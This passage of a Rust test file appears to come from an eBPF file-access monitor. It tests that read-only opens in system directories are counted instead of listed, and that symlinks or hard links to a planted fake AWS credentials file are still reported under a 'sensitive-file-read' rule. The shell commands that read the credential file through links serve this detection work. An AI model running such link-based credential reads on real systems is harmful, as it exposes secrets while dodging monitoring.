        .unwrap_or_else(|| panic!("no exec of {path}"))
}

/// Read-only opens under system directories are counted per process in the kernel, not
/// reported one by one; `--all-reads` reports them.
#[test]
fn system_reads_are_counted_not_listed() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let sys = SystemDir::new("counted");
    let f = sys.join("header.h");
    fs::write(&f, "int x;\n").unwrap();
    let cat = fs::canonicalize("/bin/cat").unwrap();
    let cat = s(&cat);
    let dir = TempDir::new("summary");
    let r = run_watched(&dir, &[], &[&cat, &s(&f)]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(r.opens_of(&s(&f)).count(), 0, "a system read was listed");
    let pid = exec_pid(&r, &cat);
    let exit = r
        .of_kind("exit")
        .find(|e| e["pid"].as_u64() == Some(pid))
        .unwrap_or_else(|| panic!("no exit of cat"));
    // The header, and the loader's cache and libc at least.
    assert!(
        exit["exit"]["reads_summarized"].as_u64().unwrap_or(0) >= 3,
        "{exit:#}"
    );
    assert!(
        r.stderr()
            .contains("reads of system directories counted, not listed"),
        "{}",
        r.stderr()
    );

    let dir = TempDir::new("summary-all");
    let r = run_watched(&dir, &["--all-reads"], &[&cat, &s(&f)]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(
        r.opens_of(&s(&f)).count(),
        1,
        "--all-reads lists every read"
    );
    assert!(
        r.of_kind("exit")
            .all(|e| e["exit"].get("reads_summarized").is_none())
    );
}

/// A summarized path that leads to a credential file (a symlink or a hard link under a system
/// directory, made before the run) is reported: the kernel knows the file by identity.
#[test]
fn a_system_path_to_a_credential_is_reported() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let sys = SystemDir::new("cred");
    let home = sys.join("home");
    fs::create_dir_all(home.join(".aws")).unwrap();
    let creds = home.join(".aws/credentials");
    fs::write(&creds, "[default]\naws_secret_access_key = fake\n").unwrap();
    let soft = sys.join("lib-soft");
    let hard = sys.join("lib-hard");
    symlink(&creds, &soft).unwrap();
    fs::hard_link(&creds, &hard).unwrap();
    let tmp = TempDir::new("summary-cred");
    let w = watch(
        &tmp,
        tmp.path(),
        &[("HOME", s(&home))],
        &[],
        &[
            "/bin/sh",
            "-c",
            &format!("cat {} {} >/dev/null", s(&soft), s(&hard)),
        ],
    );
    let events = w.events();
    for p in [&soft, &hard] {
        assert!(
            events
                .iter()
                .any(|e| e["kind"] == "open" && e["open"]["path"] == s(p)),
            "the read of {} was summarized away",
            p.display()
        );
    }
    assert!(
        w.rules().contains(&"sensitive-file-read".to_owned()),
        "{}",
        w.stderr()
    );
}

/// A new name made in the run where a summarized path could lead (here a symlink under a
/// system directory) stops the summary: later reads there are events again.
#[test]
fn a_new_name_under_a_system_directory_stops_the_summary() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let sys = SystemDir::new("trip");
    let f = sys.join("data");
    fs::write(&f, "x\n").unwrap();
    let link = sys.join("probe");
    let dir = TempDir::new("summary-trip");
    let script = format!(
        "cat {f} >/dev/null && ln -s {f} {l} && cat {l} {f} >/dev/null",
        f = s(&f),
        l = s(&link)
    );
    let r = run_watched(&dir, &[], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    // The first read is counted; after the symlink, both reads are listed.
    assert_eq!(r.opens_of(&s(&f)).count(), 1, "{}", r.stderr());
    assert_eq!(r.opens_of(&s(&link)).count(), 1, "{}", r.stderr());
    assert!(
        r.stderr().contains("every read after it is an event"),
        "{}",
        r.stderr()
    );
}
